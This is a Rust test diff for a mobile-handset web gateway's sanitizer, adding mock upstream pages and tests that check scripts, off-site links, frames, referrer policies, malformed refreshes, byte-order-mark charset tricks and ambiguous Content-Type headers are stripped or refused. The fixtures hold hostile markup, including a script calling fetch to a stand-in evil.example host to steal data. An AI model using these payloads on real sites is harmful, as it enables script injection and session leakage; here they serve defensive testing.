@@ -1,7 +1,7 @@
 //! The gateway to content providers' own sites, against a real upstream on a
 //! loopback port (issue 8): http and https upstreams.
 
-use axum::extract::RawQuery;
+use axum::extract::{Path, RawQuery};
 use axum::http::{HeaderMap, StatusCode};
 use axum::response::{IntoResponse, Redirect};
 use axum::routing::get;
@@ -135,6 +135,60 @@ fn cp_app() -> Router {
              "<html><body><form action=\"/cp/echo\" method=\"get\"><input type=\"hidden\" name=\"guid\" value=\"ON\"></form>\
               <form action=\"/cp/form\" method=\"post\"><input type=\"hidden\" name=\"guid\" value=\"ON\"></form></body></html>")
         }))
+        .route("/cp/bom/{kind}", get(|headers: HeaderMap, Path(kind): Path<String>| async move {
+            let host = headers.get("host").and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
+            let page = hostile_markup(&host);
+            // The declared charset is not the one the mark names.
+            let (declared, body) = match kind.as_str() {
+                "utf-16le" => ("windows-1252", bom_encoded(&page, Bom::Utf16Le)),
+                "utf-16be" => ("windows-1252", bom_encoded(&page, Bom::Utf16Be)),
+                _ => ("Shift_JIS", bom_encoded(&page, Bom::Utf8)),
+            };
+            ([("content-type", format!("text/html; charset={declared}"))], body)
+        }))
+        .route("/cp/uncovered", get(|| async {
+            // Only once the script before it is removed does the page start
+            // with a UTF-16 mark; what follows reads as markup only in UTF-16.
+            let mut body = b"<script></script>".to_vec();
+            body.extend(bom_encoded("<script>steal()</script><p>x</p>", Bom::Utf16Le));
+            ([("content-type", "text/html; charset=windows-1252")], body)
+        }))
+        .route("/cp/uncovered8", get(|| async {
+            ([("content-type", "text/html; charset=utf-8")], "<script></script>\u{feff}<p>after the mark</p>")
+        }))
+        .route("/cp/typed/{n}", get(|Path(n): Path<usize>| async move {
+            let mut r = axum::response::Response::new(axum::body::Body::from(
+                "<html><body><script>steal()</script><a href=\"http://evil.example/\">away</a></body></html>",
+            ));
+            r.headers_mut().insert("content-type", axum::http::HeaderValue::from_static(NOT_ONE_TYPE[n]));
+            r
+        }))
+        .route("/cp/twotypes", get(|| async {
+            let mut r = axum::response::Response::new(axum::body::Body::from("<script>steal()</script>"));
+            r.headers_mut().append("content-type", axum::http::HeaderValue::from_static("text/plain"));
+            r.headers_mut().append("content-type", axum::http::HeaderValue::from_static("text/html"));
+            r
+        }))
+        .route("/cp/notes.txt", get(|| async {
+            let (euc, _, _) = encoding_rs::EUC_JP.encode("天気 <b>not markup</b>");
+            ([("content-type", "Text/Plain; Charset=\"euc-jp\"; format=flowed")], euc.into_owned())
+        }))
+        .route("/cp/plain.txt", get(|| async { ([("content-type", "text/plain")], "plain <b>text</b>") }))
+        .route("/cp/bom.txt", get(|| async {
+            ([("content-type", "text/plain; charset=windows-1252")], bom_encoded("天気", Bom::Utf16Le))
+        }))
+        .route("/cp/upper.gif", get(|| async { ([("content-type", "IMAGE/GIF; name=\"logo.gif\"")], b"GIF89a\x01\x00\x01\x00".to_vec()) }))
+        .route("/cp/frames", get(|| async {
+            ([("content-type", "text/html; charset=utf-8")],
+             "<html><head><meta name=\"Referrer\" content=\"unsafe-url\"><META NAME=referr&#101;r CONTENT=origin>\
+              <meta http-equiv=\"refresh\" content=\"0,http://evil.example/?;url=ok.html\">\
+              <meta http-equiv=\"refresh\" content=\"0 http://evil.example/\">\
+              <meta http-equiv=\"refresh\" content=\"5; url=next.html\">\
+              <meta http-equiv=\"Refresh\" content=\"10\"></head><body>before\
+              <iframe src=\"http://evil.example/f\" srcdoc=\"&lt;a href=http://evil.example/&gt;\">inner <b>steal</b></iframe>\
+              <frameset cols=\"50%,50%\"><frame src=\"http://evil.example/a\"><FRAME src=\"/cp/b\"></frameset>\
+              <div SrcDoc=\"steal\">div</div><p>after</p></body></html>")
+        }))
         .route("/katte/", get(echo))
         .route("/katte/join", get(|headers: HeaderMap| async move {
             let host = headers.get("host").and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
@@ -147,6 +201,64 @@ fn cp_app() -> Router {
         }));
     app
 }
+
+/// A page that tries everything a slip of the sanitizer would let through:
+/// a script, a `<base>` pointing away, off-site links and an image, and a
+/// referrer policy that would send the handset's session URL along.
+fn hostile_markup(host: &str) -> String {
+    format!(
+        "<html><head><meta name=\"referrer\" content=\"unsafe-url\"><base href=\"http://evil.example/\">\
+         <script>fetch('http://evil.example/steal')</script></head><body>天気予報<br>\
+         <a href=\"http://evil.example/off\">off</a><a href=\"http://{host}/cp/next.html\">next</a>\
+         <a href=\"rel.html\">rel</a><img src=\"http://evil.example/i.gif\"></body></html>"
+    )
+}
+
+/// Which byte-order mark a page starts with.
+#[derive(Clone, Copy)]
+enum Bom {
+    Utf8,
+    Utf16Le,
+    Utf16Be,
+}
+
+/// `text` after a byte-order mark, in the encoding the mark names.
+fn bom_encoded(text: &str, bom: Bom) -> Vec<u8> {
+    match bom {
+        Bom::Utf8 => [&b"\xef\xbb\xbf"[..], text.as_bytes()].concat(),
+        Bom::Utf16Le => [0xfeffu16]
+            .into_iter()
+            .chain(text.encode_utf16())
+            .flat_map(u16::to_le_bytes)
+            .collect(),
+        Bom::Utf16Be => [0xfeffu16]
+            .into_iter()
+            .chain(text.encode_utf16())
+            .flat_map(u16::to_be_bytes)
+            .collect(),
+    }
+}
+
+/// Content-Type values that are not exactly one media type.
+const NOT_ONE_TYPE: &[&str] = &[
+    "text/plain;,text/html",
+    "text/html, text/plain",
+    "text/plain; charset=utf-8, text/html",
+    "text/",
+    "text",
+    "/html",
+    "text/html/x",
+    "text /html",
+    "text/plain; charset",
+    "text/plain; charset=",
+    "text/plain; =utf-8",
+    "text/plain; charset=\"utf-8",
+    "text/plain; charset=utf 8",
+    "text/plain; charset=utf-8 x",
+    "text/plain,",
+    "text/h(tml)",
+    "",
+];
 
 /// An upstream that promises a 1,000-byte page and closes after 10 bytes.
 async fn short_upstream() -> String {
@@ -1462,4 +1574,247 @@ async fn gateway_links_answered_before_the_router_match_the_routers_answers() {
         .get("/s/00000000000000000000000000000000/g/cp/", P501I)
         .await;
     assert_eq!(lost.status, StatusCode::SEE_OTHER);
+}
+
+// ---- the page as the browser reads it
+
+/// Every URL a browser would follow or load from `page` (attributes and a
+/// refresh's content) that leads neither into session `sid`'s gateway nor
+/// to garake's "not configured" page. Read with lol_html, as a browser
+/// tokenizes it.
+fn off_gateway_urls(page: &str, sid: &str) -> Vec<String> {
+    use lol_html::{element, HtmlRewriter, Settings};
+    let mut urls = Vec::new();
+    {
+        let mut rewriter = HtmlRewriter::new(
+            Settings {
+                element_content_handlers: vec![element!("*", |el| {
+                    for a in el.attributes() {
+                        let name = a.name();
+                        if ["href", "src", "action", "background", "data", "srcdoc"]
+                            .contains(&name.as_str())
+                        {
+                            urls.push(a.value());
+                        }
+                    }
+                    if el.tag_name() == "meta" {
+                        if let Some(content) = el.get_attribute("content") {
+                            if let Some((_, url)) = content.split_once("URL=") {
+                                urls.push(url.to_string());
+                            }
+                        }
+                    }
+                    Ok(())
+                })],
+                ..Settings::new()
+            },
+            |_: &[u8]| {},
+        );
+        rewriter.write(page.as_bytes()).unwrap();
+        rewriter.end().unwrap();
+    }
+    let inside = [format!("/s/{sid}/g/cp/"), format!("/s/{sid}/url?url=")];
+    urls.into_iter()
+        .filter(|u| !inside.iter().any(|p| u.starts_with(p.as_str())))
+        .collect()
+}
+
+/// Whether `bytes` start with a UTF-8, UTF-16LE or UTF-16BE byte-order mark.
+fn starts_with_bom(bytes: &[u8]) -> bool {
+    bytes.starts_with(b"\xef\xbb\xbf")
+        || bytes.starts_with(b"\xff\xfe")
+        || bytes.starts_with(b"\xfe\xff")
+}
+
+#[tokio::test]
+async fn a_page_with_a_byte_order_mark_is_read_by_the_mark_whatever_its_charset_says() {
+    let (app, _, _menus) = setup().await;
+    for ua in [P501I, PC] {
+        let handset = app.handset(TARO, ua).await;
+        let sid = &handset.sid;
+        for kind in ["utf-16le", "utf-16be", "utf-8"] {
+            let page = handset.get(&format!("/s/{sid}/g/cp/bom/{kind}")).await;
+            let what = format!("{kind} as {ua}");
+            assert_eq!(page.status, StatusCode::OK, "{what}: {}", page.text);
+            let charset = if ua == PC { "UTF-8" } else { "Shift_JIS" };
+            assert_eq!(
+                page.header("content-type"),
+                format!("text/html; charset={charset}"),
+                "{what}"
+            );
+            assert!(
+                !starts_with_bom(&page.bytes),
+                "{what}: {:02x?}",
+                &page.bytes[..4]
+            );
+            assert!(!page.bytes.contains(&0), "{what}: no UTF-16 left");
+            assert!(page.text.contains("天気予報"), "{what}: {}", page.text);
+            for gone in [
+                "<script",
+                "<base",
+                "referrer",
+                "unsafe-url",
+                "http://",
+                "//evil",
+            ] {
+                assert!(!page.text.contains(gone), "{what}: {gone} in {}", page.text);
+            }
+            assert_eq!(
+                off_gateway_urls(&page.text, sid),
+                Vec::<String>::new(),
+                "{what}"
+            );
+            assert!(
+                page.text
+                    .contains(&format!("href=\"/s/{sid}/g/cp/next.html\""))
+                    && page
+                        .text
+                        .contains(&format!("href=\"/s/{sid}/g/cp/bom/rel.html\"")),
+                "{what}: {}",
+                page.text
+            );
+            let removed = page.header("x-garake-removed");
+            assert!(
+                ["script=1", "base=1", "meta referrer=1"]
+                    .iter()
+                    .all(|r| removed.contains(r)),
+                "{what}: {removed}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_mark_the_sanitizer_uncovers_is_not_read_as_one() {
+    let (app, _, _menus) = setup().await;
+    for ua in [P501I, PC] {
+        let handset = app.handset(TARO, ua).await;
+        let sid = &handset.sid;
+        let page = handset.get(&format!("/s/{sid}/g/cp/uncovered")).await;
+        assert_eq!(page.status, StatusCode::OK, "{}", page.text);
+        assert!(!starts_with_bom(&page.bytes), "{ua}: {:02x?}", page.bytes);
+        // Read as a browser reads it, by any mark at its start.
+        let (read, _) = encoding_rs::SHIFT_JIS.decode_with_bom_removal(&page.bytes);
+        assert!(!read.contains("<script"), "{ua}: {read}");
+        assert!(!page.text.contains("<script"), "{ua}: {}", page.text);
+        let page = handset.get(&format!("/s/{sid}/g/cp/uncovered8")).await;
+        assert!(!starts_with_bom(&page.bytes), "{ua}: {:02x?}", page.bytes);
+        assert!(page.text.contains("after the mark"), "{ua}: {}", page.text);
+    }
+}
+
+#[tokio::test]
+async fn a_content_type_that_is_not_exactly_one_media_type_is_refused() {
+    let (app, _, _menus) = setup().await;
+    let handset = app.handset(TARO, P501I).await;
+    let sid = &handset.sid;
+    let mut paths: Vec<String> = (0..NOT_ONE_TYPE.len())
+        .map(|n| format!("/s/{sid}/g/cp/typed/{n}"))
+        .collect();
+    paths.push(format!("/s/{sid}/g/cp/twotypes"));
+    for path in &paths {
+        let page = handset.get(path).await;
+        assert_eq!(
+            page.status,
+            StatusCode::UNSUPPORTED_MEDIA_TYPE,
+            "{path}: {}",
+            page.text
+        );
+        assert!(
+            page.text
+                .contains("この種類のデータは携帯電話では表示できません。"),
+            "{path}: {}",
+            page.text
+        );
+        assert!(!page.text.contains("steal"), "{path}");
+        assert_eq!(
+            page.header("content-type"),
+            "text/html; charset=Shift_JIS",
+            "{path}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn text_and_images_go_with_a_content_type_garake_chose() {
+    let (app, _, _menus) = setup().await;
+    let handset = app.handset(TARO, "DoCoMo/2.0 P903i(c100;TB;W24H12)").await;
+    let sid = &handset.sid;
+    let path = |tail: &str| format!("/s/{sid}/g/cp/{tail}");
+    let notes = handset.get(&path("notes.txt")).await;
+    assert_eq!(notes.status, StatusCode::OK);
+    assert_eq!(notes.header("content-type"), "text/plain; charset=EUC-JP");
+    assert_eq!(
+        notes.bytes,
+        encoding_rs::EUC_JP
+            .encode("天気 <b>not markup</b>")
+            .0
+            .to_vec(),
+        "the text itself is passed as it is"
+    );
+    let plain = handset.get(&path("plain.txt")).await;
+    assert_eq!(
+        plain.header("content-type"),
+        "text/plain; charset=Shift_JIS"
+    );
+    assert_eq!(plain.text, "plain <b>text</b>");
+    // A mark names the text's charset, as the browser will read it.
+    let bom = handset.get(&path("bom.txt")).await;
+    assert_eq!(bom.header("content-type"), "text/plain; charset=UTF-16LE");
+    let gif = handset.get(&path("upper.gif")).await;
+    assert_eq!(
+        (gif.status, gif.header("content-type")),
+        (StatusCode::OK, "image/gif")
+    );
+    for r in [&notes, &plain, &bom, &gif] {
+        assert_eq!(r.headers.get_all("content-type").iter().count(), 1);
+        assert_eq!(r.header("x-content-type-options"), "nosniff");
+    }
+}
+
+#[tokio::test]
+async fn frames_srcdoc_referrer_policies_and_loose_refreshes_are_removed() {
+    let (app, _, _menus) = setup().await;
+    let handset = app.handset(TARO, P501I).await;
+    let sid = &handset.sid;
+    let page = handset.get(&format!("/s/{sid}/g/cp/frames")).await;
+    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
+    for gone in [
+        "iframe",
+        "IFRAME",
+        "<frame",
+        "<FRAME",
+        "frameset",
+        "srcdoc",
+        "SrcDoc",
+        "eferr",
+        "steal",
+        "evil.example",
+        "inner",
+    ] {
+        assert!(!page.text.contains(gone), "{gone} in {}", page.text);
+    }
+    for kept in ["before", "<div>div</div>", "<p>after</p>"] {
+        assert!(page.text.contains(kept), "{kept} in {}", page.text);
+    }
+    // The one refresh of the strict form is rewritten into the gateway; a
+    // refresh with no URL stays; the loose ones are gone.
+    assert!(
+        page.text
+            .contains(&format!("content=\"5;URL=/s/{sid}/g/cp/next.html\"")),
+        "{}",
+        page.text
+    );
+    assert!(page.text.contains("content=\"10\""), "{}", page.text);
+    assert_eq!(page.text.matches("http-equiv").count(), 2, "{}", page.text);
+    assert_eq!(off_gateway_urls(&page.text, sid), Vec::<String>::new());
+    let removed = page.header("x-garake-removed");
+    for want in [
+        "frame=4",
+        "srcdoc=1",
+        "meta referrer=2",
+        "malformed refresh=2",
+    ] {
+        assert!(removed.contains(want), "{want} in {removed}");
+    }
 }
